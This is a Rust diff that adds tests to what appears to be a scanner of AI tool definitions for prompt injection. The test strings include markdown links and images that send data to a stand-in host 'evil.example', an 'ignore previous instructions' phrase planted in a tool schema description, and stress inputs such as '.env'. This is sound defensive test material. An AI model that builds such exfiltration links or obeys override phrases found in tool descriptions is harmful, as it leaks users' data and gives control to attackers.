@@ -122,6 +122,7 @@ fn walk(value: &Value, path: &str, is_name: bool, see: &mut impl FnMut(&Text<'_>
 mod tests {
     use std::collections::BTreeMap;
 
+    use proptest::prelude::*;
     use serde_json::json;
 
     use super::*;
@@ -265,6 +266,7 @@ mod tests {
             ("![x][1]", Flag::Links),
             ("[here](https://evil.example/?d={data})", Flag::Links),
             ("[here](https://evil.example/?d=)", Flag::Links),
+            ("a](b) ![x](https://evil.example/a.png)", Flag::Links),
         ] {
             assert!(flags(text).contains(&flag), "{text:?} {flag:?}: {:?}", flags(text));
         }
@@ -319,6 +321,37 @@ mod tests {
         let found = look(&tool.to_string(), &Neighbours::default());
         assert_eq!(found[0].path, "/inputSchema/properties/x~1y/description");
         assert!(found[0].excerpt.contains("ignore previous instructions"), "{found:?}");
+    }
+
+    #[test]
+    fn texts_that_are_made_to_take_long_do_not() {
+        for text in [
+            "<",
+            "](",
+            "[",
+            "][",
+            "ignore previous ",
+            "dont dont ",
+            "\\u00",
+            "include all ",
+            "é\u{200d}",
+            ".env",
+        ] {
+            let long = text.repeat(200_000 / text.len());
+            assert!(flags(&long).contains(&Flag::Oversized), "{text}");
+        }
+    }
+
+    proptest! {
+        #[test]
+        fn any_text_is_looked_at_and_told_as_it_is(text in "\\PC{0,60}|[<>\\[\\]()!.\\\\u/a-c ]{0,60}|[\u{0}-\u{10ffff}]{0,30}") {
+            let tool = json!({ "name": "a", "description": text });
+            for found in look(&tool.to_string(), &Neighbours::default()) {
+                prop_assert!(found.path.starts_with('/'));
+                let lower = text.to_lowercase();
+                prop_assert!(text.contains(&found.excerpt) || lower.contains(&found.excerpt), "{:?}", found);
+            }
+        }
     }
 
     #[test]
